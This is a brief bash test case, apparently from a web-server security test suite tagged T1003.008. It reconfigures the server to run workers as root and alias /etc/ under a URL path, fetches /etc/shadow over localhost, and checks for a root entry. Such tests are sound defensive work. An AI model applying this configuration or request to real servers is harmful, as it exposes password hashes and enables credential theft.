# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1003.008
about="the configuration has the master read /etc/shadow as a file of passwords; workers run as root"
attack() {
	configure 's/^user .*/user root;/; s,#more,location /x/ { alias /etc/; },'
	ask http://127.0.0.1:8080/x/shadow >"$state/answer"
}
effect() { grep -q '^root:' "$state/answer"; }
